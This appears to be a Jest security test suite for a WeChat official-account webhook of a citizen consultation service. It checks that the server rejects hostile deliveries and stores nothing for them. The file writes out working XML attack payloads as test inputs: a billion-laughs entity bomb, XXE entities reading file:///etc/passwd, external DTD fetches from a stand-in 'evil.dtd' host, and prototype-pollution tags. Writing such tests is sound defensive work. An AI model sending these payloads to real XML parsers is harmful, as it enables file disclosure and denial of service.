// Hostile deliveries to the official-account webhook, in-process against real PostgreSQL and Redis:
// entity expansion and external entities, DOCTYPE variants (also inside safe mode's sealed XML), bodies
// beyond the body limit and the 64 KB XML cap, forged and stale signatures, and a signature replayed with
// another body. Every refusal is a 4xx with a code, and the refused message leaves nothing behind: no
// consultation, no session, no dedupe mark (the same message sent properly afterwards is handled).
// Then the outages: with the key-value store gone, or the engine failing, the citizen gets the passive
// reply "系统繁忙，请稍后再试。" (sealed in safe mode), and nothing is recorded.
import http from "node:http";
import type { AddressInfo } from "node:net";
import type { RedisKeyValueStore } from "../../src/infra/kv";
import { Consultation } from "../../src/modules/conversation/entities";
import { SessionStore } from "../../src/modules/conversation/session-store";
import { dedupeKey } from "../../src/channels/wechat-webhook";
import { createTestEnv, type TestEnv } from "../helpers/test-context";
import {
  errorCode,
  freshNonce,
  listen,
  outerXml,
  plainQuery,
  postWechat,
  readXml,
  safeQuery,
  seal,
  sha1,
  textXml,
  unseal,
  WECHAT_ENV,
  WX,
  type Answer,
} from "./support/fuzz-wechat";

const NOW = "2026-03-02T02:00:00Z";
const TS = String(Date.parse(NOW) / 1000);
const TOLERANCE = 300;

let env: TestEnv;
let base: string;
let closeServer: () => Promise<void>;
let msgSeq = 9100000000000000000n;
const nextMsgId = () => String(msgSeq++);

/** A local HTTP server standing in for an attacker's host: an external entity must never make it receive a request. */
let sink: http.Server;
let sinkUrl: string;
let sinkHits = 0;

const svc = () => env.services.conversation;
const consultations = (openId: string) => env.ctx.db.getRepository(Consultation).countBy({ recipient: `oa:${openId}` });
const session = (openId: string) => env.ctx.kv.get(SessionStore.key("oa", openId));

/** A message that, when handled, leaves a visible effect: "人工" opens a consultation for staff. */
const effectXml = (openId: string, msgId = nextMsgId()) => textXml(openId, "人工", msgId, TS);

const postPlain = (xml: string, query = plainQuery(TS)) => postWechat(base, query, xml);
function postSafe(innerXml: string, opts: { appId?: string; query?: (enc: string) => Record<string, string> } = {}) {
  const encrypted = seal(innerXml, opts.appId);
  return postWechat(base, (opts.query ?? ((e) => safeQuery(TS, e)))(encrypted), outerXml(encrypted));
}

function expectRefused(a: Answer, status: number, code: string) {
  expect({ status: a.status, code: errorCode(a) }).toEqual({ status, code });
}

/** Nothing of the message was kept: no consultation, no session, no dedupe mark. */
async function expectNothingFor(openId: string, msgId?: string) {
  expect(await consultations(openId)).toBe(0);
  expect(await session(openId)).toBeNull();
  if (msgId) expect(await env.ctx.kv.get(dedupeKey({ MsgId: msgId }))).toBeNull();
}

/** The refused message, sent properly afterwards, is handled once: the refusal consumed nothing. */
async function expectHandledWhenSentProperly(openId: string, msgId: string) {
  const ok = await postPlain(effectXml(openId, msgId));
  expect(ok.status).toBe(200);
  expect(readXml(ok.text).Content).toContain("人工服务");
  expect(await consultations(openId)).toBe(1);
}

beforeAll(async () => {
  sink = http.createServer((_req, res) => {
    sinkHits++;
    res.end("root:x:0:0:root:/root:/bin/bash\n");
  });
  await new Promise<void>((r) => sink.listen(0, "127.0.0.1", r));
  sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/evil.dtd`;
  env = await createTestEnv({
    db: "postgres",
    now: NOW,
    env: { ...WECHAT_ENV, WECHAT_TIMESTAMP_TOLERANCE_SECONDS: String(TOLERANCE), BODY_LIMIT: "256kb", WECHAT_API_BASE_URL: "http://127.0.0.1:9" },
  });
  ({ url: base, close: closeServer } = await listen(env));
});
afterAll(async () => {
  await closeServer?.();
  await env?.close();
  await new Promise((r) => sink?.close(r));
});

describe("entity expansion and external entities", () => {
  it("refuses a billion-laughs document with 400 at once, without expanding it", async () => {
    const levels = ['<!ENTITY lol0 "lol">'];
    for (let i = 1; i <= 9; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
    const xml = `<?xml version="1.0"?><!DOCTYPE xml [${levels.join("")}]>${effectXml("o-laughs", "9100000000000000901").replace("人工", "人工&lol9;")}`;
    const started = Date.now();
    const res = await postPlain(xml);
    expectRefused(res, 400, "WECHAT.INVALID_MESSAGE");
    // 10^9 "lol"s would take gigabytes; a refusal before expansion takes milliseconds (generous bound for a loaded machine)
    expect(Date.now() - started).toBeLessThan(2000);
    expect(res.text).not.toContain("lollol");
    await expectNothingFor("o-laughs", "9100000000000000901");
    await expectHandledWhenSentProperly("o-laughs", "9100000000000000901");
  });

  it("refuses external entities (file:// and http://) with 400, reading no file and fetching nothing", async () => {
    const docs = [
      `<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${effectXml("o-xxe").replace("人工", "&xxe;")}`,
      `<!DOCTYPE xml [<!ENTITY xxe SYSTEM "${sinkUrl}">]>${effectXml("o-xxe").replace("人工", "&xxe;")}`,
      `<!DOCTYPE xml SYSTEM "${sinkUrl}">${effectXml("o-xxe")}`,
      `<!DOCTYPE xml [<!ENTITY % ext SYSTEM "${sinkUrl}"> %ext;]>${effectXml("o-xxe")}`,
      `<!DOCTYPE xml PUBLIC "-//X//EN" "${sinkUrl}">${effectXml("o-xxe")}`,
    ];
    for (const xml of docs) {
      const res = await postPlain(xml);
      expectRefused(res, 400, "WECHAT.INVALID_MESSAGE");
      expect(res.text).not.toContain("root:");
    }
    expect(sinkHits).toBe(0);
    await expectNothingFor("o-xxe");
  });

  it("refuses DOCTYPE and other declarations in any spelling, also sealed inside safe mode", async () => {
    const msg = (openId: string) => effectXml(openId);
    const variants: Array<[string, string]> = [
      ["lowercase", `<!doctype xml>${msg("o-dt-lower")}`],
      ["mixed case", `<!DocType xml [<!ENTITY a "b">]>${msg("o-dt-mixed")}`],
      ["newline and tabs", `<?xml version="1.0"?>\n<!DOCTYPE\n\txml\n[\n<!ENTITY a "b">\n]>\n${msg("o-dt-ws")}`],
      ["space after <!", `<! DOCTYPE xml>${msg("o-dt-space")}`],
      ["lone ENTITY", `<!ENTITY a "b">${msg("o-dt-entity")}`],
      ["ELEMENT / ATTLIST", `<!ELEMENT xml ANY><!ATTLIST xml a CDATA "x">${msg("o-dt-element")}`],
      ["after a comment", `<!-- hello --><!DOCTYPE xml>${msg("o-dt-comment")}`],
      ["hidden behind a fake CDATA in a comment", `<!--<![CDATA[--><!DOCTYPE xml [<!ENTITY a "b">]><!--]]>-->${msg("o-dt-cdata")}`],
      ["inside the root", msg("o-dt-inside").replace("<xml>", "<xml><!DOCTYPE x>")],
      ["unterminated CDATA", msg("o-dt-unterminated").replace("</xml>", "<a><![CDATA[<!DOCTYPE x></a></xml>")],
    ];
    for (const [name, xml] of variants) {
      const res = await postPlain(xml);
      expect({ name, status: res.status, code: errorCode(res) }).toEqual({ name, status: 400, code: "WECHAT.INVALID_MESSAGE" });
    }
    const sealed = await postSafe(`<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>${textXml("o-dt-safe", "&x;", nextMsgId(), TS)}`);
    expectRefused(sealed, 400, "WECHAT.INVALID_MESSAGE");
    const sealedLower = await postSafe(`<!doctype xml>${msg("o-dt-safe")}`);
    expectRefused(sealedLower, 400, "WECHAT.INVALID_MESSAGE");
    for (const id of [
      "o-dt-lower",
      "o-dt-mixed",
      "o-dt-ws",
      "o-dt-space",
      "o-dt-entity",
      "o-dt-element",
      "o-dt-comment",
      "o-dt-cdata",
      "o-dt-inside",
      "o-dt-unterminated",
      "o-dt-safe",
    ]) {
      await expectNothingFor(id);
    }
  });

  it("still reads a citizen's message that merely contains the text <!DOCTYPE in CDATA", async () => {
    const res = await postPlain(textXml("o-dt-text", "<!DOCTYPE html> 这是什么？怎么申请政府信息公开", nextMsgId(), TS));
    expect(res.status).toBe(200);
    // The how-to fact from the statutory FAQ (was: the pasted guide section "依申请公开").
    expect(readXml(res.text).Content).toContain("书面形式");
  });

  it("answers 400 (not 500) for documents the parser itself refuses: tags named __proto__/prototype, deep nesting", async () => {
    const proto = `<xml><ToUserName>${WX.ACCOUNT}</ToUserName><FromUserName>o-proto</FromUserName><CreateTime>${TS}</CreateTime><MsgType>text</MsgType><Content>人工</Content><__proto__><polluted>1</polluted></__proto__></xml>`;
    expectRefused(await postPlain(proto), 400, "WECHAT.INVALID_MESSAGE");
    expectRefused(await postPlain(proto.replace(/__proto__/g, "prototype")), 400, "WECHAT.INVALID_MESSAGE");
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const deep = effectXml("o-deep").replace("</xml>", `${"<a>".repeat(5000)}${"</a>".repeat(5000)}</xml>`);
    expect(Buffer.byteLength(deep)).toBeLessThan(64 * 1024);
    expectRefused(await postPlain(deep), 400, "WECHAT.INVALID_MESSAGE");
    await expectNothingFor("o-proto");
    await expectNothingFor("o-deep");
  });
});

describe("oversized bodies", () => {
  it("refuses a body beyond BODY_LIMIT (256 KB) with 413 REQUEST.TOO_LARGE", async () => {
    const xml = effectXml("o-huge").replace("人工", `人工${"啊".repeat(100_000)}`);
    expect(Buffer.byteLength(xml)).toBeGreaterThan(256 * 1024);
    expectRefused(await postPlain(xml), 413, "REQUEST.TOO_LARGE");
    await expectNothingFor("o-huge");
  });

  it("refuses a body under BODY_LIMIT but beyond the 64 KB XML cap with 413, plain and sealed", async () => {
    const xml = effectXml("o-big").replace("人工", `人工${"x".repeat(70_000)}`);
    expect(Buffer.byteLength(xml)).toBeGreaterThan(64 * 1024);
    expect(Buffer.byteLength(xml)).toBeLessThan(256 * 1024);
    expectRefused(await postPlain(xml), 413, "REQUEST.TOO_LARGE");
    // sealed: the outer envelope is beyond the cap before anything is decrypted
    expectRefused(await postSafe(xml), 413, "REQUEST.TOO_LARGE");
    await expectNothingFor("o-big");
  });
});

describe("forged and stale signatures", () => {
  it("refuses a forged, missing or wrong-token signature with 401, keeping nothing", async () => {
    const msgId = nextMsgId();
    const xml = effectXml("o-forged", msgId);
    const nonce = freshNonce();
    for (const query of [
      { timestamp: TS, nonce, signature: "0".repeat(40) },
      { timestamp: TS, nonce },
      plainQuery(TS, nonce, "not-the-token"),
      { ...plainQuery(TS, nonce), nonce: `${nonce}x` },
      { ...plainQuery(TS, nonce), timestamp: String(Number(TS) + 1) },
    ]) {
      expectRefused(await postPlain(xml, query), 401, "AUTH.UNAUTHENTICATED");
    }
    await expectNothingFor("o-forged", msgId);
    await expectHandledWhenSentProperly("o-forged", msgId);
  });

  it("refuses a forged msg_signature in safe mode, one made for another Encrypt, or for another appid", async () => {
    const msgId = nextMsgId();
    const inner = effectXml("o-forged-safe", msgId);
    const forged = await postSafe(inner, { query: (e) => ({ ...safeQuery(TS, e), msg_signature: sha1(["wrong", TS, "n", e]) }) });
    expectRefused(forged, 401, "AUTH.UNAUTHENTICATED");
    const otherEncrypt = seal(effectXml("o-forged-safe", nextMsgId()));
    const swapped = await postSafe(inner, { query: () => safeQuery(TS, otherEncrypt) });
    expectRefused(swapped, 401, "AUTH.UNAUTHENTICATED");
    // only the plain signature, which does not cover the body
    const plainOnly = await postSafe(inner, { query: () => ({ ...plainQuery(TS), encrypt_type: "aes" }) });
    expectRefused(plainOnly, 401, "AUTH.UNAUTHENTICATED");
    expectRefused(await postSafe(inner, { appId: "wx0ther0app" }), 401, "AUTH.UNAUTHENTICATED");
    await expectNothingFor("o-forged-safe", msgId);
    const ok = await postSafe(inner);
    expect(ok.status).toBe(200);
    expect(readXml(unseal(readXml(ok.text).Encrypt).xml).Content).toContain("人工服务");
    expect(await consultations("o-forged-safe")).toBe(1);
  });

  it("refuses a timestamp beyond the tolerance, past or future, and a malformed one, with 401", async () => {
    const msgId = nextMsgId();
    for (const ts of [String(Number(TS) - TOLERANCE - 1), String(Number(TS) + TOLERANCE + 1), "1e9", "-5", `${TS}.5`, ""]) {
      const xml = textXml("o-stale", "人工", msgId, ts || TS);
      expectRefused(await postPlain(xml, plainQuery(ts)), 401, "AUTH.UNAUTHENTICATED");
      const encrypted = seal(xml);
      expectRefused(await postWechat(base, safeQuery(ts, encrypted), outerXml(encrypted)), 401, "AUTH.UNAUTHENTICATED");
    }
    // the edge of the window is still accepted
    const edge = String(Number(TS) - TOLERANCE);
    const ok = await postPlain(textXml("o-stale", "人工", msgId, edge), plainQuery(edge));
    expect(ok.status).toBe(200);
    expect(await consultations("o-stale")).toBe(1);
  });
});

describe("replayed signatures", () => {
  it("refuses (timestamp, nonce, signature) reused with another body; the exact replay has no second effect", async () => {
    const query = plainQuery(TS);
    const aMsgId = nextMsgId();
    const aXml = effectXml("o-replay-a", aMsgId);
    const first = await postPlain(aXml, query);
    expect(first.status).toBe(200);
    expect(readXml(first.text).Content).toContain("人工服务");

    // someone who saw the signed query of that delivery sends their own message with it, or alters it
    const bMsgId = nextMsgId();
    expectRefused(await postPlain(effectXml("o-replay-b", bMsgId), query), 401, "AUTH.UNAUTHENTICATED");
    expectRefused(await postPlain(aXml.replace("人工", "我要申请"), query), 401, "AUTH.UNAUTHENTICATED");
    expectRefused(await postPlain(`${aXml} `, query), 401, "AUTH.UNAUTHENTICATED");
    await expectNothingFor("o-replay-b", bMsgId);

    // the exact replay (what WeChat's own retry looks like) is answered "success" and does nothing more
    const again = await postPlain(aXml, query);
    expect(again.status).toBe(200);
    expect(again.text).toBe("success");
    expect(await consultations("o-replay-a")).toBe(1);

    // still spent at the far edge of the tolerance window
    env.clock.set(new Date((Number(TS) + TOLERANCE) * 1000).toISOString());
    try {
      expectRefused(await postPlain(effectXml("o-replay-b", bMsgId), query), 401, "AUTH.UNAUTHENTICATED");
    } finally {
      env.clock.set(NOW);
    }
    // o-replay-b's message with its own signature is handled: the refusals consumed nothing
    await expectHandledWhenSentProperly("o-replay-b", bMsgId);
  });

  it("refuses a safe-mode msg_signature reused with another envelope; the exact replay has no second effect", async () => {
    const msgId = nextMsgId();
    const encrypted = seal(effectXml("o-replay-safe", msgId));
    const query = safeQuery(TS, encrypted);
    const first = await postWechat(base, query, outerXml(encrypted));
    expect(first.status).toBe(200);
    expect(readXml(unseal(readXml(first.text).Encrypt).xml).Content).toContain("人工服务");
    const tampered = outerXml(encrypted).replace(WX.ACCOUNT, "gh_someoneelse");
    expectRefused(await postWechat(base, query, tampered), 401, "AUTH.UNAUTHENTICATED");
    const again = await postWechat(base, query, outerXml(encrypted));
    expect(again.status).toBe(200);
    expect(again.text).toBe("success");
    expect(await consultations("o-replay-safe")).toBe(1);
  });
});

describe("outages: the citizen is told the service is busy, in Chinese, and nothing is recorded", () => {
  const BUSY = "系统繁忙，请稍后再试。";

  it("answers the busy passive reply, plain and sealed, while the key-value store is unreachable", async () => {
    const plainId = nextMsgId();
    const safeId = nextMsgId();
    const plainXml = effectXml("o-busy", plainId);
    const safeXml = effectXml("o-busy-safe", safeId);
    const kv = env.ctx.kv as RedisKeyValueStore;
    expect(kv.mode).toBe("redis");
    kv.client.disconnect();
    let plain: Answer;
    let sealed: Answer;
    try {
      plain = await postPlain(plainXml);
      sealed = await postSafe(safeXml);
    } finally {
      await kv.client.connect();
    }
    expect(plain.status).toBe(200);
    const reply = readXml(plain.text);
    expect(reply).toMatchObject({ ToUserName: "o-busy", FromUserName: WX.ACCOUNT, MsgType: "text", Content: BUSY });

    expect(sealed.status).toBe(200);
    const outer = readXml(sealed.text);
    expect(outer.MsgSignature).toBe(sha1([WX.TOKEN, outer.TimeStamp, outer.Nonce, outer.Encrypt]));
    const inner = unseal(outer.Encrypt);
    expect(inner.appId).toBe(WX.APPID);
    expect(readXml(inner.xml)).toMatchObject({ ToUserName: "o-busy-safe", Content: BUSY });

    await expectNothingFor("o-busy", plainId);
    await expectNothingFor("o-busy-safe", safeId);
    // once the store is back, the same messages are handled (once)
    await expectHandledWhenSentProperly("o-busy", plainId);
    await expectHandledWhenSentProperly("o-busy-safe", safeId);
  });

  it("answers the busy reply when the engine fails after the dedupe mark, and releases the mark for the redelivery", async () => {
    const msgId = nextMsgId();
    const xml = effectXml("o-busy-engine", msgId);
    const query = plainQuery(TS);
    // The engine's own store calls fail as when Redis drops between the dedupe write and the session read.
    const spy = jest.spyOn(svc(), "handle").mockRejectedValueOnce(Object.assign(new Error("connect ECONNREFUSED 127.0.0.1:6379"), { code: "ECONNREFUSED" }));
    try {
      const res = await postPlain(xml, query);
      expect(res.status).toBe(200);
      expect(readXml(res.text)).toMatchObject({ ToUserName: "o-busy-engine", Content: BUSY });
      expect(spy).toHaveBeenCalledTimes(1);
    } finally {
      spy.mockRestore();
    }
    await expectNothingFor("o-busy-engine", msgId);
    // the redelivery (same signed query, same body) is handled once
    const retry = await postPlain(xml, query);
    expect(readXml(retry.text).Content).toContain("人工服务");
    expect(await consultations("o-busy-engine")).toBe(1);
  });
});
